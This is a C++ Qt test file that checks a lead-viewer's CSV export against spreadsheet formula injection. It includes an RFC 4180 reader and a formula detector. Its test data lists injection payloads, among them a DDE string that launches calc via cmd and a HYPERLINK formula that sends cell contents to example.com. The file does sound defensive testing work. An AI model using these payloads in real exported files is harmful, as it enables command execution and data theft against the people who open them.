// SPDX-License-Identifier: MIT
#include "export/csvwriter.h"
#include "export/exportrow.h"
#include "support/hostilelead.h"
#include "support/parsed.h"
#include "support/problemoftext.h"
#include "support/testprogram.h"
#include "telecrm/lead.h"
#include "wording/leadheading.h"
#include "wording/visibletext.h"

#include <QRegularExpression>
#include <QStringDecoder>
#include <QTimeZone>
#include <QtTest>

#include <algorithm>

using namespace LeadViewer;
using namespace LeadViewer::Test;

namespace {

//! What a reader of RFC 4180 makes of a file; nothing when it breaks a rule.
std::optional<QList<QStringList>> readCsv(const QByteArray &bytes)
{
    QStringDecoder decoder(QStringDecoder::Utf8, QStringDecoder::Flag::Stateless);
    const QString text = decoder(bytes);
    if (decoder.hasError())
        return std::nullopt;
    QList<QStringList> rows;
    QStringList row;
    qsizetype i = 0;
    while (i < text.size()) {
        QString cell;
        if (text.at(i) == u'"') {
            for (++i;; ++i) {
                if (i >= text.size())
                    return std::nullopt; // the quote is not closed
                if (text.at(i) != u'"')
                    cell += text.at(i);
                else if (i + 1 < text.size() && text.at(i + 1) == u'"')
                    cell += text.at(++i);
                else
                    break;
            }
            ++i;
        } else {
            for (; i < text.size() && text.at(i) != u',' && text.at(i) != u'\r'; ++i) {
                if (text.at(i) == u'"' || text.at(i) == u'\n')
                    return std::nullopt;
                cell += text.at(i);
            }
        }
        row += cell;
        if (text.mid(i, 2) == QLatin1String("\r\n")) {
            rows += row;
            row.clear();
            i += 2;
        } else if (i < text.size() && text.at(i) == u',') {
            ++i;
            if (i == text.size())
                return std::nullopt; // a row without its end
        } else {
            return std::nullopt;
        }
    }
    return row.isEmpty() ? std::optional(rows) : std::nullopt;
}

//! Whether some spreadsheet would compute it, or what it makes of it when it splits it.
bool isFormula(const QString &cell)
{
    static const QString signs = QString::fromUtf8("=+-@＝＋－＠");
    static const QRegularExpression separator(QStringLiteral("[;|\\t\\n\\r\\v\\f\\x{2028}]"));
    const QStringList parts = cell.split(separator);
    return std::any_of(parts.begin(), parts.end(), [](const QString &part) {
        const QString seen = part.trimmed();
        const bool isDashNote = seen != part && seen.startsWith(u"- ");
        return !seen.isEmpty() && signs.contains(seen.front()) && !isDashNote;
    });
}

void checkExport(const LeadPage &page)
{
    QVERIFY(page.actions);
    CsvWriter csv;
    addExportHeader(csv, QTimeZone::utc());
    const LeadHeading heading = leadHeading(page.lead, {}, {});
    const ExportedLead lead{heading.name, heading.phone, heading.name};
    for (const Action &action : page.actions->actions)
        addExportRow(csv, action, lead, {});
    const auto table = readCsv(csv.bytes());
    QVERIFY(table);
    QCOMPARE(table->size(), qsizetype(page.actions->actions.size()) + 1);
    for (qsizetype i = 0; i < table->size(); ++i) {
        const QStringList &row = table->at(i);
        QCOMPARE(row.size(), 12);
        for (const QString &cell : row) {
            QVERIFY2(!isFormula(cell), qPrintable(cell));
            QCOMPARE(problemOfText(cell), QString());
        }
        if (i == 0)
            continue;
        const Action &action = page.actions->actions[std::size_t(i) - 1];
        QCOMPARE(row.at(5), safeCell(visibleText(action.type.code)));
        QCOMPARE(row.at(6), safeCell(visibleText(action.performer)));
        QCOMPARE(row.at(7), safeCell(visibleText(action.id)));
    }
}

} // namespace

//! Whatever a lead holds: the file has its rows and cells, and a spreadsheet computes none of them.
class HostileExportTest : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void reader_data();
    void reader();
    void texts_data();
    void texts();
    void shapes();
};

void HostileExportTest::reader_data()
{
    QTest::addColumn<QByteArray>("bytes");
    QTest::addColumn<bool>("isGood");
    QTest::newRow("a row") << QByteArray("a,\"b\"\"\r\n,\",\r\n") << true;
    QTest::newRow("a quote inside") << QByteArray("a\"b\r\n") << false;
    QTest::newRow("a quote that is not closed") << QByteArray("\"a\r\n") << false;
    QTest::newRow("a line break inside") << QByteArray("a\nb\r\n") << false;
    QTest::newRow("text behind a quote") << QByteArray("\"a\"b\r\n") << false;
    QTest::newRow("no end") << QByteArray("a,b") << false;
    QTest::newRow("no UTF-8") << QByteArray("\xff\r\n") << false;
}

void HostileExportTest::reader()
{
    QFETCH(QByteArray, bytes);
    QFETCH(bool, isGood);
    QCOMPARE(readCsv(bytes).has_value(), isGood);
}

void HostileExportTest::texts_data()
{
    QTest::addColumn<QString>("text");
    for (const HostileText &hostile : hostileTexts())
        QTest::newRow(hostile.name) << hostile.text;
    for (const char *text : {"=1+1",
                             "+91 98765 43210",
                             "-1",
                             "@SUM(A1)",
                             "\t=1",
                             "\n=1",
                             "\r\n=1",
                             " =1",
                             "'=1",
                             "=cmd|' /C calc'!A0",
                             "=HYPERLINK(\"https://example.com/?\"&A1,\"x\")",
                             "＝1",
                             "＋1",
                             "a\",=1+1,\"",
                             "a\r\n=1+1",
                             "\"=1\"",
                             "x;=cmd|'/C calc'!A0;y",
                             "x;\"=1\"",
                             "x\t@1",
                             "- wife\n- =1",
                             ",=1",
                             "\"",
                             "\"\"",
                             "',\"=1"}) {
        QTest::addRow("%s", text) << QString::fromUtf8(text);
    }
}

void HostileExportTest::texts()
{
    QFETCH(QString, text);
    const auto page = readLeadPage(parsed(hostileLead(text)));
    QVERIFY(std::holds_alternative<LeadPage>(page));
    checkExport(std::get<LeadPage>(page));
    QCOMPARE(std::get<LeadPage>(page).actions->actions.size(), std::size_t(100));
}

void HostileExportTest::shapes()
{
    int exported = 0;
    int withoutActions = 0;
    for (const Variant &variant : wrongTypes() + hostileLeads()) {
        const auto value = Json::parse(variant.json);
        const auto *root = std::get_if<Json::Value>(&value);
        const auto result = root != nullptr ? readLeadPage(*root) : ErrorKind::NotJson;
        const auto *page = std::get_if<LeadPage>(&result);
        if (page == nullptr || !page->actions || page->actions->actions.empty()) {
            ++withoutActions;
            continue;
        }
        ++exported;
        checkExport(*page);
        if (QTest::currentTestFailed())
            QFAIL(qPrintable(variant.name));
    }
    QVERIFY(exported > 600);
    QCOMPARE(withoutActions, 31); // refused, or something else in the place of the actions
}

LEAD_VIEWER_TEST(HostileExportTest, QCoreApplication)
#include "tst_hostileexport.moc"
